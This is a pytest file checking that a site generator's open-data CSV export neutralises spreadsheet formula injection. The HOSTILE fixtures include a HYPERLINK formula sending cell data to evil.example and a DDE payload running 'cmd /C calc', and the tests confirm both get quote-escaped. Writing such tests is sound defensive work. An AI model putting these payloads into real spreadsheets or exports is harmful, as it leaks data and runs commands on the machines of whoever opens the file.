"""Open-data CSV: no cell a spreadsheet would run as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from conftest import REPO, Town, org_yml

from generator.site import generate
from generator.site.exports import csv_cell

HOSTILE = {
    "  title: 党委书记": '  title: "=1+1"',
    "  phone: 0519-88001234": '  phone: "+86 519 8800 1234"',
    "  address: 测试镇样板路 1 号": '  address: "=HYPERLINK(\\"https://evil.example/?\\"&A1, \\"点我\\")"',
    "short_name: 样板村党委": "short_name: \"@SUM(1+1)*cmd|' /C calc'!A0\"",
}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("https://x", "y")', '\'=HYPERLINK("https://x", "y")'),
        ("+86 519 8800 1234", "'+86 519 8800 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("党委书记 =1", "党委书记 =1"),
        ("0519-88001234", "0519-88001234"),
        (40, 40),
        (-0.5, -0.5),
        (None, ""),
    ],
)
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_exported_csv_never_starts_a_formula(town: Town) -> None:
    text = org_yml()
    for old, new in HOSTILE.items():
        assert old in text
        text = text.replace(old, new)
    town.write("organizations/a-cun/org.yml", text.replace("lon: 120.00", "lon: -0.5").replace("lat: 31.78", "lat: -31.78"))
    town_yml = (town.root / "content/_town/town.yml").read_text(encoding="utf-8")
    town.write("content/_town/town.yml", town_yml.replace("south: 31.70, west: 119.90", "south: -32, west: -1"))
    generated = generate(town.root)
    raw = generated.files["data/organizations.csv"]
    assert isinstance(raw, bytes)
    [row] = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert row["secretary"] == "'=1+1 王某某"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.lstrip("-").replace(".", "").isdigit(), cell
    assert row["phone"] == "'+86 519 8800 1234"
    assert row["address"].startswith("'=HYPERLINK(")
    assert row["short_name"].startswith("'@SUM(")
    assert (row["lat"], row["lon"], row["members"]) == ("-31.78", "-0.5", "40")


def test_data_page_says_so() -> None:
    page = (REPO / "generator/templates/site/data.md.j2").read_text(encoding="utf-8")
    assert "单引号" in page and "公式" in page
